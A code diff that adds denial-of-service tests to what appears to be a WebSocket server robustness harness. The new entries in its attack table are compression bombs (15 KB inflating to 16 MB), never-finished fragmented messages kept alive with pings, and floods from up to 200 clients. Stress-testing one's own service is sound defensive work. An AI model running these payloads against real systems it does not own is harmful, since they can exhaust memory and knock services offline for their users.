@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import json
 import socket
+import struct
 import sys
+import threading
 import time
+import zlib
 from collections import Counter
 from collections.abc import Callable, Iterator, Mapping
 from contextlib import contextmanager, suppress
@@ -161,14 +164,18 @@ def wrong_type(url: str) -> str:
         return "advertised" if first == "service_response" else f"publisher: {first}"
 
 
-def plain(url: str) -> socket.socket:
+def plain(url: str, *, deflate: bool = False) -> socket.socket:
     """Return a socket after a handshake, which nobody reads."""
+    more = "Sec-WebSocket-Extensions: permessage-deflate\r\n" if deflate else ""
     parts = urlsplit(url)
     made = socket.create_connection((str(parts.hostname), int(parts.port or 0)), timeout=SECONDS)
     made.sendall(
         f"GET / HTTP/1.1\r\nHost: {parts.netloc}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
-        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
+        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
+        f"{more}\r\n".encode()
     )
+    while deflate and b"\r\n\r\n" not in made.recv(4096):
+        pass
     return made
 
 
@@ -219,6 +226,93 @@ def two_hosts(url: str) -> str:
     return ", ".join(f"{count} x {what}" for what, count in came.items())
 
 
+def packed(text: bytes) -> bytes:
+    """Return a text as permessage-deflate has it."""
+    packer = zlib.compressobj(9, wbits=-15)
+    return (packer.compress(text) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]
+
+
+def masked(first: int, content: bytes) -> bytes:
+    """Return a frame by its first octet, masked with zeros, which costs the sender nothing."""
+    length = len(content)
+    head = struct.pack("!BBQI", first, 0xFF, length, 0)
+    return (struct.pack("!BBI", first, 0x80 | length, 0) if length < 126 else head) + content
+
+
+def unfinished(clients: int, frames: bytes) -> Callable[[str], str]:
+    """Send the beginning of a message from so many clients, and then answer pings."""
+
+    def run(url: str) -> str:
+        came: Counter[str] = Counter()
+        made = [plain(url, deflate=True) for _ in range(clients)]
+        for one in made:
+            one.settimeout(SECONDS)
+            with suppress(OSError):
+                one.sendall(frames)
+        end = time.monotonic() + SECONDS
+        while time.monotonic() < end:
+            for one in made:
+                with suppress(OSError):
+                    one.sendall(masked(0x8A, b""))
+            time.sleep(0.5)
+        for one in made:
+            came[ending(one)] += 1
+        return ", ".join(f"{count} x {what}" for what, count in came.items())
+
+    return run
+
+
+def ending(made: socket.socket) -> str:
+    """Return how the server ended a connection, after whatever it said."""
+    made.settimeout(0.05)
+    octets = b""
+    try:
+        while data := made.recv(65536):
+            octets += data
+    except TimeoutError:
+        return "held"
+    except OSError:
+        return "cut off"
+    finally:
+        made.close()
+    at = octets.rfind(b"\x88")
+    return f"closed {int.from_bytes(octets[at + 2 : at + 4], 'big')}" if at >= 0 else "cut off"
+
+
+def bombs(clients: int) -> Callable[[str], str]:
+    """Send messages that become a thousand times as long, as fast as they are taken."""
+    call = b'{"op":"Call","type":"add","id":"b","jsonMessage":{"a":"%s"}}'
+    bomb = masked(0xC1, packed(call % (b" " * 16_000_000)))
+
+    def run(url: str) -> str:
+        sent: Counter[str] = Counter()
+
+        def send() -> None:
+            end = time.monotonic() + SECONDS
+            while time.monotonic() < end:
+                with suppress(OSError), plain(url, deflate=True) as made:
+                    made.settimeout(SECONDS)
+                    while time.monotonic() < end:
+                        made.sendall(bomb)
+                        sent["sent"] += 1
+                        with suppress(BlockingIOError):
+                            made.recv(65536, socket.MSG_DONTWAIT)
+
+        threads = [threading.Thread(target=send) for _ in range(clients)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+        return f"{sent['sent']} x {len(bomb):,} octets sent"
+
+    return run
+
+
+FRAGMENT = b" " * 1_000_000
+FRAGMENTS = masked(0x01, FRAGMENT) + masked(0x00, FRAGMENT) * 15
+PACKED_FRAGMENTS = masked(0x41, packed(FRAGMENT * 16))
+
+
 def one_input(row: str, name: str) -> Attack:
     return Attack(row, f"one frame: {name}", inputs(HOSTILE[name]))
 
@@ -240,6 +334,12 @@ ATTACKS: Mapping[str, Attack] = {
     ),
     "half-open": Attack("10", "500 handshakes that do not go on", half_open),
     "id": one_input("11", "dimensions as the id"),
+    "fragments": Attack("13", "16 fragments of 1 MB, no last", unfinished(1, FRAGMENTS)),
+    "fragments-200": Attack("13", "the same from 200 clients", unfinished(200, FRAGMENTS)),
+    "packed": Attack("13", "15 KB that become 16 MB, no last", unfinished(1, PACKED_FRAGMENTS)),
+    "packed-200": Attack("13", "the same from 200", unfinished(200, PACKED_FRAGMENTS)),
+    "bombs": Attack("13", "16 MB in 15.5 KB for five seconds from 8 clients", bombs(8)),
+    "bombs-200": Attack("13", "the same from 200 clients", bombs(200)),
     "heads": Attack("12", "100 times Host twice, 100 times the path //[x", two_hosts),
 }  # fmt: skip
 
